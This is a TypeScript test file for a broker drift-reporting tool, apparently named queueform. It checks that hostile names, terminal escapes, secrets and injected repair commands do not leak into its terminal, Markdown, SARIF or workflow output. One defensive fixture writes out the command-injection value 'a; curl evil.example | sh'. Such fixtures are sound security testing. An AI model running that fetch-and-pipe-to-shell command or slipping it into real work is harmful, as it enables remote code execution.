import { readFileSync } from "node:fs";
import { join } from "node:path";
import { Ajv } from "ajv";
import { describe, expect, test } from "vitest";
import type { DriftDocument } from "../../src/report/drift/document.ts";
import { annotationsOf, sarifOf } from "../../src/report/drift/findings.ts";
import { renderDrift } from "../../src/report/drift/pretty.ts";
import { renderMarkdown } from "../../src/report/drift/markdown.ts";
import { readDrift } from "../../src/report/drift/read.ts";
import { driftSchema } from "../../src/report/drift/schema.ts";
import { plain } from "../../src/report/style.ts";
import { UsageError } from "../../src/topology/files.ts";
import { changedQueue, driftOf, everyDrift } from "./drifts.ts";
import { hostileNames, visibleText, withoutBlocks } from "./hostile.ts";

/** Drift in which every text that a file or a broker can decide is hostile. */
const hostile: DriftDocument = driftOf({
  clusters: hostileNames.map((name) => ({
    broker: "rabbitmq",
    cluster: name,
    state: "failed",
    reason: name,
    declared: 1,
    compared: 0,
    coverage: 0,
  })),
  changed: hostileNames.map((name) => {
    const { outcome, fields } = changedQueue("q");
    return changedQueue("q", "safe", {
      key: name,
      sentence: name,
      origin: { file: name, line: 1, column: 1 },
      outcome: { ...outcome, sentence: name },
      fields: fields.map((field) => ({ ...field, field: name, before: name, after: name, through: name })),
    });
  }),
  missing: hostileNames.map((name) => ({
    key: name,
    kind: name,
    outcome: { what: "nothing", losesMessages: false, sentence: name },
  })),
  unmanaged: hostileNames.map((name) => ({ key: name, kind: name })),
  unchecked: hostileNames.map((name) => ({ key: name, reason: name, cause: "not-allowed" })),
  ignored: hostileNames.map((name) => ({
    key: name,
    finding: "missing",
    field: name,
    reason: name,
    origin: { file: name, line: 1, column: 1 },
  })),
  unusedIgnores: hostileNames.map((name) => ({ entry: name, origin: { file: name, line: 1, column: 1 } })),
  warnings: hostileNames.map((name) => ({
    broker: "rabbitmq",
    cluster: name,
    check: "alarm",
    sentence: name,
  })),
  state: { path: "x", gone: hostileNames, unknown: hostileNames, undeclared: hostileNames },
});

test("pretty: nothing that somebody called something steers the terminal or begins a line", () => {
  const names = ["two\nlines", "\u001b[2Jgone", "turned\u202Eover", "a  b"];
  const document = driftOf({
    changed: names.map((name) => changedQueue(name, "safe", { sentence: name })),
    unmanaged: names.map((name) => ({ key: name, kind: "rabbitmq-queue" })),
  });
  const text = renderDrift(document, plain);
  // oxlint-disable-next-line no-control-regex -- what must not be there
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]|^lines/m);
  expect(text).toContain("+ two·lines\n");
  expect(text).toContain("+ a  b\n");
});

describe("the text of an issue", () => {
  test("says everything, the worst first, and what of it no command can put right", () => {
    const text = renderMarkdown(everyDrift);
    expect(text.split("\n").slice(0, 2)).toEqual([
      "<!-- queueform drift prod -->",
      "## Drift in prod: 2 changed, 1 missing, 1 unmanaged, 1 otherwise in Pulumi&#39;s state",
    ]);
    expect([...text.matchAll(/^### (.*)$/gm)].map(([, title]) => title)).toEqual([
      "Changed (2)",
      "Missing (1)",
      "Could not be checked (2)",
      "On the broker, in no file (1)",
      "Pulumi's state (1)",
      "Not well, though configured as declared (3)",
      "Ignored (1)",
      "Compared (2)",
    ]);
    expect(text.indexOf("queue/fulfil")).toBeLessThan(text.indexOf("queue/audit"));
    expect(text).toContain("apply leaves it. **message-loss**: Said of fulfil.");
    expect(text).not.toContain("Said of audit.");
    expect(text).toContain("through the policy limits");
  });

  test("calls nobody, links nothing and hides nothing, whatever a name says", () => {
    const text = renderMarkdown(hostile);
    const outside = withoutBlocks(text);
    expect(visibleText(text)).not.toMatch(/@\w|#\d|GH-\d/);
    expect(outside.match(/<(?!\/?code>|!-- queueform drift prod -->)/g)).toBeNull();
    expect(outside.match(/<!--/g)).toHaveLength(1);
    expect(outside).not.toMatch(/[`\u202e\u200b]|\]\(|@\w|https:|www\./);
  });

  test.each([3000, 20_000, 65_000])(
    "fits into %i bytes, and says of every pile how much is not shown",
    (maximum) => {
      const many = driftOf({
        changed: Array.from({ length: 5000 }, (_, index) =>
          changedQueue(`${index}${"&".repeat(50)}`, index === 4999 ? "message-loss" : "safe"),
        ),
        missing: everyDrift.missing,
        unmanaged: Array.from({ length: 5000 }, (_, index) => ({
          key: `queue/${index}`,
          kind: "rabbitmq-queue",
        })),
      });
      const text = renderMarkdown(many, { maximum });
      expect(Buffer.byteLength(text)).toBeLessThanOrEqual(maximum);
      expect(text.match(/\d+ more not shown/g)).toHaveLength(2);
      expect(text).toContain("queue/4999");
      expect(text).toContain("exchange/orders");
    },
  );
});

describe("a file that somebody else wrote", () => {
  const schema = JSON.parse(
    readFileSync(join(import.meta.dirname, "../../schema/drift.schema.json"), "utf8"),
  ) as object;

  test.each([
    ["everything", everyDrift],
    ["nothing", driftOf()],
    ["hostile names", hostile],
  ])("is read when it fits the published schema: %s", (_title, document) => {
    const validate = new Ajv({ strictTypes: false }).compile(schema);
    validate(JSON.parse(JSON.stringify(document)));
    expect(validate.errors).toBeNull();
    const { repair: _, ...read } = readDrift(JSON.stringify(document));
    expect(renderMarkdown({ ...read, repair: [] })).toBe(renderMarkdown(document));
    expect(schema).toEqual(driftSchema());
  });

  test("doesn't decide which commands people copy", () => {
    const document = driftOf({
      changed: [
        changedQueue("a; curl evil.example | sh", "message-loss", {
          outcome: { what: "refused", losesMessages: true, sentence: "" },
        }),
      ],
      repair: ["curl evil.example | sh"],
    });
    expect(readDrift(JSON.stringify(document)).repair).toEqual([
      "npx queueform apply --env prod",
      "# only for objects that may be deleted with all they hold and made anew:",
      "npx queueform apply --env prod --replace 'rabbitmq/main/shop/queue/a; curl evil.example | sh'",
    ]);
  });

  test.each([
    ["a review", { formatVersion: 1, against: "main", environments: [] }],
    ["an environment that ends the marker", driftOf({ environment: "x --> @team" })],
    ["an unknown impact", JSON.parse(JSON.stringify(everyDrift).replaceAll("message-loss", "<b>"))],
    ["another format", { ...driftOf(), formatVersion: 2 }],
  ])("is refused when it is %s", (_title, value) => {
    expect(() => readDrift(JSON.stringify(value))).toThrow(UsageError);
  });
});

test("secrets that a file holds in clear show in no text of an issue", () => {
  const { fields } = changedQueue("q");
  const document = driftOf({
    changed: [
      changedQueue("q", "safe", {
        fields: fields.map((field) => ({ ...field, field: "password", before: "hunter2", after: "hunter2" })),
        sentence: "https://web:hunter2@broker/ refused it.",
      }),
    ],
    unchecked: [{ key: "k", reason: "amqp://web:hunter2@broker", cause: "not-allowed" }],
    warnings: [{ broker: "redis", cluster: "jobs", check: "alarm", sentence: 'password: "hunter2"' }],
  });
  expect(renderMarkdown(document)).not.toContain("hunter2");
});

describe("tools for code reviews", () => {
  test("SARIF has a rule and a level for each pile, and alerts that survive other values and moved lines", () => {
    const resultsOf = (document: DriftDocument) =>
      sarifOf(document)["runs"] as [
        { results: { ruleId: string; level: string; partialFingerprints: Record<string, string> }[] },
      ];
    const [{ results }] = resultsOf(everyDrift);
    expect(results.map(({ ruleId, level }) => `${ruleId} ${level}`)).toEqual([
      "changed error",
      "changed error",
      "missing error",
      "not-checked error",
      "not-checked error",
      "state warning",
      "unmanaged warning",
    ]);
    const fields = changedQueue("q").fields.map((field) => ({ ...field, before: 7 }));
    const prints = [
      changedQueue("q"),
      changedQueue("q", "safe", { fields, origin: { file: "topology/orders.yaml", line: 99, column: 1 } }),
    ].map((change) => resultsOf(driftOf({ changed: [change] }))[0].results[0]?.partialFingerprints);
    expect(prints[0]).toEqual(prints[1]);
  });

  test("workflow commands stay on one line each, ten of a kind", () => {
    const lines = annotationsOf(hostile).trimEnd().split("\n");
    expect(lines).toHaveLength(20);
    for (const line of lines) expect(line).toMatch(/^::(error|warning) ([a-z]+=[^,:\r\n]*,?)+::[^\r\n]+$/);
  });
});
